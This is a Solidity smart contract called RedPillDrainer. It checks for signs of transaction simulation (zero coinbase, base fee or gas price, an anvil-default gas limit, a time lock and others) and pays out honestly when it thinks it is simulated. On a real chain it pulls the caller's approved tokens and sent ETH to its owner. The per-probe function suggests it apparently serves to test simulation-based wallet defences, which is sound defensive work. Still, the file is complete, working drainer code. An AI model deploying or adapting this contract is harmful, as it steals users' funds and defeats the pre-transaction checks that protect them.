// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Tokens} from "./base/Tokens.sol";

/// @title A drainer that behaves well where it believes itself simulated.
/// @dev `claim()` looks for a zero coinbase, base fee or gas price: if it finds one it returns the caller's value and
/// pays a small bonus from its own balance; otherwise it forwards the value and takes the listed token the caller
/// approved. `claimWhen(probe)` looks at one thing only, so that each can be tested: 0 COINBASE, 1 BASEFEE, 2 GASPRICE,
/// 3 PREVRANDAO, 4 GASLIMIT (exactly 30M, an anvil default), 5 the coinbase's balance, 6 BLOCKHASH of the parent,
/// 7 ORIGIN without funds for gas, 8 TIMESTAMP (honest until the time given at construction).
contract RedPillDrainer {
    address public immutable owner;
    address public immutable token;
    uint256 public immutable opensAt;

    constructor(address owner_, address token_, uint256 opensAt_) payable {
        owner = owner_;
        token = token_;
        opensAt = opensAt_;
    }

    receive() external payable {}

    function claim() external payable {
        _settle(block.coinbase == address(0) || block.basefee == 0 || tx.gasprice == 0);
    }

    function claimWhen(uint8 probe) external payable {
        _settle(_looksSimulated(probe));
    }

    function _looksSimulated(uint8 probe) private view returns (bool) {
        if (probe == 0) return block.coinbase == address(0);
        if (probe == 1) return block.basefee == 0;
        if (probe == 2) return tx.gasprice == 0;
        if (probe == 3) return block.prevrandao == 0;
        if (probe == 4) return block.gaslimit == 30_000_000;
        if (probe == 5) return block.coinbase.balance == 0;
        if (probe == 6) return blockhash(block.number - 1) == 0;
        if (probe == 7) return tx.origin.balance == 0;
        return block.timestamp < opensAt;
    }

    function _settle(bool honest) private {
        if (honest) {
            uint256 bonus = address(this).balance - msg.value;
            if (bonus > 0.001 ether) bonus = 0.001 ether;
            _send(msg.sender, msg.value + bonus);
            return;
        }
        uint256 amount = Tokens.takeable(token, msg.sender, address(this));
        if (amount > 0) Tokens.pull(token, msg.sender, owner, amount);
        if (msg.value > 0) _send(owner, msg.value);
    }

    function _send(address to, uint256 value) private {
        (bool sent,) = to.call{value: value}("");
        require(sent);
    }
}
